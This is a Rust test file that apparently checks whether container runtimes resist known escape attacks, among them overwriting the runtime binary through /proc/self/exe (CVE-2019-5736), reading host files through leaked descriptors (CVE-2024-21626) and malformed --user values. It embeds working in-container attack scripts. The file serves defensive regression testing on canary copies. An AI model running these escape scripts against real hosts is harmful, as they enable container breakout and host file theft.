//! Attacks from inside of a running container, on the runtime that enters it.
//!
//! As in `attack_image`, canaries only: the binary that is attacked is a copy in the case's folder.

use std::fs;
use std::path::Path;

use ketch_integration::runtime::Kind;
use ketch_integration::{Bundle, Caller, Case, Container, Race, tests, wait_until};
use serde_json::json;

tests![
    the_attack_on_the_binary_works,
    the_binary_by_proc_self_exe,
    the_binary_by_a_script_interpreter,
    descriptors_of_an_entering_process,
    inheritable_capabilities,
    a_user_with_trailing_garbage,
    exec_into_a_descriptor,
];

/// What holds on to the executable of every process that is no busybox, and writes to it as soon as it no longer runs.
const GRAB: &str = r#"
    own=/bin/busybox
    while :; do
        for p in /proc/[0-9]*; do
            [ "$p/exe" -ef $own ] && continue
            [ -r "$p/exe" ] || continue
            (
                exec 9<"$p/exe" || exit
                [ /proc/self/fd/9 -ef $own ] && exit
                echo grabbed >> /tmp/log
                i=0 end=over
                while [ $i -lt 300 ]; do
                    if ( printf owned > /proc/self/fd/9 ); then end=written; break; fi
                    i=$((i+1))
                done
                echo $end >> /tmp/log
            ) 2>/dev/null
        done
    done"#;

/// What a process of the container did to `program`, which entered it many times with `args`, until the attacker had hold
/// of it at least once: whether it could write to it.
fn is_written(container: &Container<'_>, rootfs: &Path, program: &Path, args: &[String]) -> bool {
    let case = container.case;
    let before = fs::read(program).expect("read the copy");
    let log = || fs::read_to_string(rootfs.join("tmp/log")).unwrap_or_default();
    let is_written = || fs::read(program).expect("read the copy") != before || log().contains("written");
    let enter = || {
        let command = match case.caller {
            Caller::Root => case.program(program),
            Caller::User => case.as_user(program),
        };
        let _ = command.args(args).run();
    };
    for _ in Race::of(case, 25) {
        enter();
        if is_written() {
            return true;
        }
    }
    wait_until("the attack has got hold of the runtime", || {
        if log().contains("grabbed") {
            return Ok(());
        }
        enter();
        Err(log())
    });
    wait_until("the end of every attempt to write", || {
        let log = log();
        let count = |word| log.lines().filter(|line| *line == word).count();
        if count("grabbed") == count("over") + count("written") { Ok(()) } else { Err(log) }
    });
    is_written()
}

const ALL: [&str; 4] = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_SYS_ADMIN", "CAP_FOWNER"];

fn grabbing_bundle(case: &Case) -> Bundle<'_> {
    case.bundle().script(GRAB).capabilities(&ALL).set("/process/noNewPrivileges", json!(false))
}

/// Enters the container with a program that does not seal itself, busybox's nsenter: it is overwritten, so the attack
/// does what it should.
fn the_attack_on_the_binary_works(case: &Case) {
    let bundle = grabbing_bundle(case);
    let container = bundle.start();
    let copy = case.folder("copy").join("nsenter");
    fs::copy("/bin/busybox", &copy).expect("copy busybox");
    case.give(&copy);
    let target = container.pid().to_string();
    let kinds: &[&str] =
        if case.caller == Caller::User { &["-U", "-m", "-u", "-i", "-p"] } else { &["-m", "-u", "-i", "-n", "-p"] };
    let args: Vec<String> =
        ["-t", &target].iter().chain(kinds).chain(&["/proc/self/exe", "x"]).map(|arg| (*arg).to_owned()).collect();
    let written = is_written(&container, &bundle.rootfs(), &copy, &args);
    container.stop();
    assert!(written, "the attack fails on an unsealed binary, too");
}

fn attack_binary(case: &Case, prepare: impl FnOnce(&Path), args: &[&str]) {
    if case.caller == Caller::User {
        case.not_on_runc("its process stays out of the attack's sight");
    }
    let copy = case.folder("copy").join(case.runtime.path.file_name().expect("a file name"));
    fs::copy(&case.runtime.path, &copy).expect("copy the runtime");
    // A user's own binary is the container's to write to as far as the file goes.
    case.give(&copy);
    let bundle = grabbing_bundle(case);
    prepare(&bundle.rootfs());
    let container = bundle.start();
    let root = case.state_root().display().to_string();
    let mut exec = vec!["--root".to_owned(), root, "exec".to_owned()];
    exec.extend(ALL.iter().flat_map(|cap| ["--cap".to_owned(), (*cap).to_owned()]));
    exec.push(container.id.clone());
    exec.extend(args.iter().map(|arg| (*arg).to_owned()));
    let written = is_written(&container, &bundle.rootfs(), &copy, &exec);
    container.stop();
    assert!(!written, "the runtime's binary was written to");
}

/// CVE-2019-5736: the container's program is the runtime itself. Both peers here seal their binary.
fn the_binary_by_proc_self_exe(case: &Case) {
    attack_binary(case, |_| {}, &["/proc/self/exe", "--version"]);
}

/// The same by `#!/proc/self/exe`, which no look at the arguments would find.
fn the_binary_by_a_script_interpreter(case: &Case) {
    let evil = |rootfs: &Path| {
        use std::os::unix::fs::PermissionsExt;
        let script = rootfs.join("bin/evil");
        fs::write(&script, "#!/proc/self/exe\n").expect("write");
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).expect("chmod");
    };
    attack_binary(case, evil, &["/bin/evil"]);
}

/// CVE-2016-9962, CVE-2024-21626: a process that enters is looked at while it still has descriptors of the host.
pub(crate) fn descriptors_of_an_entering_process(case: &Case) {
    let secret = case.dir.join("secret");
    fs::write(&secret, "secret of the host").expect("write");
    let script = format!(
        r#"while :; do
            for d in /proc/[0-9]*/fd/* /proc/[0-9]*/cwd /proc/[0-9]*/root; do
                case "$d" in /proc/$$/*) continue;; esac
                cat "$d/../../../../../../../../..{0}" "$d{0}" 2>/dev/null >> /tmp/log
            done
        done"#,
        secret.display()
    );
    let all = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_SYS_ADMIN"];
    let bundle = case.bundle().script(&script).capabilities(&all);
    let container = bundle.start();
    let log = || fs::read_to_string(bundle.rootfs().join("tmp/log")).unwrap_or_default();
    for _ in Race::of(case, 25) {
        let _ = container.exec(&["/bin/true"]).ok();
        if log().contains("secret") {
            break;
        }
    }
    container.stop();
    let log = log();
    assert!(!log.contains("secret"), "a descriptor of the host was read: {log}");
}

/// CVE-2022-24769, CVE-2022-27650 (crun), CVE-2022-29162 (`exec --cap`), CVE-2025-27612 (youki).
pub(crate) fn inheritable_capabilities(case: &Case) {
    let container = case.bundle().script("grep CapInh /proc/self/status; exec sleep 1000").start();
    container.wait_stdout("CapInh:");
    assert_eq!(container.stdout().trim(), "CapInh:\t0000000000000000", "of create");
    let shown = |flags: &[&str]| {
        let out = container.exec_with(flags, &["/bin/grep", "-E", "CapInh|CapAmb", "/proc/self/status"]).ok();
        let values: Vec<_> = out.text().split_whitespace().filter(|word| !word.starts_with("Cap")).collect();
        assert_eq!(values, ["0000000000000000"; 2], "of exec {flags:?}: {out}");
    };
    shown(&[]);
    shown(&["--cap", "CAP_NET_RAW"]);
}

/// CVE-2026-30892 (crun): a user that is not wholly a number became another one.
pub(crate) fn a_user_with_trailing_garbage(case: &Case) {
    let container: Container<'_> = case.bundle().several_ids().sleeper().start();
    case.falls(&[("crun version 1.8", "it takes 33: for 33")]);
    // Every runc takes 2^32 for 0.
    let overflow = if matches!(case.runtime.kind, Kind::Runc { .. }) { "x" } else { "4294967296" };
    for user in ["33x", "33:33x", "0x21", "33:", ":33", "-1", "33 ", overflow] {
        let out = container.exec_with(&["--user", user], &["/bin/id", "-u"]);
        assert!(out.code != 0 && out.stdout.is_empty(), "--user {user:?}: {out}");
    }
    let _ = container.exec_with(&["--user", "33:33"], &["/bin/id", "-u"]).ok();
}

/// CVE-2024-21626 by `exec --cwd`.
pub(crate) fn exec_into_a_descriptor(case: &Case) {
    let secret = case.dir.join("secret");
    fs::write(&secret, "secret of the host").expect("write");
    let container = case.bundle().sleeper().start();
    let up = format!("../../../../../../../../..{}", secret.display());
    for number in 3..16 {
        let cwd = format!("/proc/self/fd/{number}");
        let out = container.exec_with(&["--cwd", &cwd], &["/bin/cat", &up]);
        assert!(!out.stdout.contains("secret"), "a file of the host is read: {out}");
    }
}
